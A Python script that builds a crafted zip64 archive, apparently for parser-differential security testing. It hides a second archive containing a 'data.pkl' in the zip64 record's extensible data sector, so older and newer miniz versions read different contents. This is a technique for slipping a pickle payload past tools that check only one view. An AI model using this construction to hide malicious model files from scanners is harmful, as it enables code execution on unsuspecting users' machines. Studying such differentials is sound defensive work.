# A zip64 end record whose "extensible data sector" holds a second archive (local headers, a
# central directory and a zip64 end record B placed exactly at eocd-76). Our reader (and miniz
# 3.0.2 as replayed) follows the locator to record A; miniz versions that first try
# "the EOCD64 right before the EOCD64 locator" (mz_zip_reader_eocd64_valid, newer miniz) read B.
import sys, os, struct, zlib
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); sys.path.insert(1, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round7'))
from zlib7 import lh, ch, payload
out, mode = sys.argv[1], (sys.argv[2] if len(sys.argv) > 2 else '')
def z64rec(n, cdsize, cdoff, ext=b''):
    return struct.pack('<IQHHIIQQQQ', 0x06064b50, 44 + len(ext), 45, 45, 0, 0, n, n, cdsize, cdoff) + ext
def archive(f, pkl):
    cd = b''
    for name, data in [(b'archive/data.pkl', pkl), (b'archive/version', b'3\n')]:
        off = len(f); f += lh(name, len(data), len(data), zlib.crc32(data)); f += data
        cd += ch(name, len(data), len(data), off, zlib.crc32(data))
    cdoff = len(f); f += cd
    return cdoff, len(cd)
f = bytearray()
cd1, cs1 = archive(f, b'\x80\x02}q\x00.')
A = len(f)
# the sector: second archive at absolute offsets, then record B
g = bytearray(b'\x00' * (A + 56))          # placeholder prefix so offsets are absolute
cd2, cs2 = archive(g, payload(mode))
sector = bytes(g[A + 56:]) + z64rec(2, cs2, cd2)
f += z64rec(2, cs1, cd1, sector)
f += struct.pack('<IIQI', 0x07064b50, 0, A, 1)
f += struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, 0xffff, 0xffff, 0xffffffff, 0xffffffff, 0)
open(out, 'wb').write(f)
if mode == 'print':
    import miniz_sim; print('miniz 3.0.2 (locator):', miniz_sim.load(out))
